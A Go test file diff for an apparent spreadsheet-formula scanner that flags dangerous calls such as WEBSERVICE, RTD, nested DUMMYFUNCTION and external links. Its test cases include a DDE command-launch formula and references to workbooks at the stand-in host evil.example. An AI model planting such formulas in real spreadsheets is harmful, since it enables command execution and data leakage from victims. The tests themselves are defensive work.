@@ -1,31 +1,39 @@
 package ooxml_test
 
 import (
+	"strings"
 	"testing"
+	"unicode/utf8"
 
 	"github.com/seed73825598/airlock/safexml/internal/ooxml"
 )
 
 func TestCalls(t *testing.T) {
 	for formula, want := range map[string]string{
-		`SUM(A1:A2)`:                            "",
-		`1+WEBSERVICE("x")`:                     `WEBSERVICE("x")`,
-		`"WEBSERVICE(1)"`:                       "",
-		`"a""b"&RTD(1)`:                         "RTD(1)",
-		`cmd|'/c calc'!A0`:                      `cmd|'/c calc'!A0`,
-		`'\\evil.example\s\[b.xlsx]S'!A1`:       `'\\evil.example\s\[b.xlsx]S'!A1`,
-		`1+'https://evil.example/[b.xlsx]S'!A`:  `'https://evil.example/[b.xlsx]S'!A`,
-		`'C:\x\[b.xlsx]S'!A1`:                   `'C:\x\[b.xlsx]S'!A1`,
-		`'it''s \x'!A1`:                         `'it''s \x'!A1`,
-		`'it''s'!A1`:                            "",
-		`'Sheet 1:Sheet 3'!A1`:                  "",
-		`'[1]Sheet 1'!A1+[2]S!B2`:               "",
-		`[\\evil.example\s\b.xlsx]S!A1`:         `[\\evil.example\s\b.xlsx]S!A1`,
-		`[https://evil.example/b.xlsx]S!A1`:     `[https://evil.example/b.xlsx]S!A1`,
-		`T[[#All],[price/unit]]+T[a:b]`:         "",
-		`'never ends \`:                         "",
-		`"http://example.org/"&A1`:              "",
-		`HYPERLINK("https://example.org/","x")`: "",
+		`SUM(A1:A2)`:                                 "",
+		`1+WEBSERVICE("x")`:                          `WEBSERVICE("x")`,
+		`"WEBSERVICE(1)"`:                            "",
+		`"a""b"&RTD(1)`:                              "RTD(1)",
+		`cmd|'/c calc'!A0`:                           `cmd|'/c calc'!A0`,
+		`'\\evil.example\s\[b.xlsx]S'!A1`:            `'\\evil.example\s\[b.xlsx]S'!A1`,
+		`1+'https://evil.example/[b.xlsx]S'!A`:       `'https://evil.example/[b.xlsx]S'!A`,
+		`'C:\x\[b.xlsx]S'!A1`:                        `'C:\x\[b.xlsx]S'!A1`,
+		`'it''s \x'!A1`:                              `'it''s \x'!A1`,
+		`'it''s'!A1`:                                 "",
+		`'Sheet 1:Sheet 3'!A1`:                       "",
+		`'[1]Sheet 1'!A1+[2]S!B2`:                    "",
+		`[\\evil.example\s\b.xlsx]S!A1`:              `[\\evil.example\s\b.xlsx]S!A1`,
+		`[https://evil.example/b.xlsx]S!A1`:          `[https://evil.example/b.xlsx]S!A1`,
+		`T[[#All],[price/unit]]+T[a:b]`:              "",
+		`'never ends \`:                              "",
+		`"http://example.org/"&A1`:                   "",
+		`HYPERLINK("https://example.org/","x")`:      "",
+		`DUMMYFUNCTION(A1)`:                          "",
+		`DUMMYFUNCTION(`:                             "",
+		`DUMMYFUNCTION("RTD(1)")`:                    "RTD(1)",
+		`DUMMYFUNCTION("DUMMYFUNCTION(""RTD(1)"")")`: "RTD(1)",
+		`DUMMYFUNCTION("DUMMYFUNCTION(A1)")`:         "",
+		`DUMMYFUNCTION("RTD(1)`:                      "RTD(1)",
 	} {
 		got := ""
 		for call := range ooxml.Calls(formula) {
@@ -36,6 +44,26 @@ func TestCalls(t *testing.T) {
 		}
 		if got != want {
 			t.Errorf("%s: %q; want %q", formula, got, want)
+		}
+	}
+}
+
+// TestCallsAreShort takes of each call what matters, and not the formula that follows.
+func TestCallsAreShort(t *testing.T) {
+	long := strings.Repeat("x", 1000)
+	for unit, want := range map[string]int{
+		"RTD(1)+": 256, `RTD("` + long + `")+`: len(`RTD("` + long + `"`), "cmd|A1+": 256, `'a\b'!A1+`: 256,
+		"[//x]+": 256, `HYPERLINK(A1)+`: 256, `HYPERLINK("` + long + `")+`: len(`HYPERLINK("` + long + `"`),
+		"RTD(\u20ac\u20ac)+\u20ac\u20ac": 256,
+	} {
+		n := 0
+		for call := range ooxml.Calls(strings.Repeat(unit, 100)) {
+			if n++; n < 50 && (len(call.Text) > want || len(call.Text) < want-2 || !utf8.ValidString(call.Text)) {
+				t.Errorf("%.20s…: %d bytes, want %d", unit, len(call.Text), want)
+			}
+		}
+		if n != 100 {
+			t.Errorf("%.20s…: %d calls", unit, n)
 		}
 	}
 }
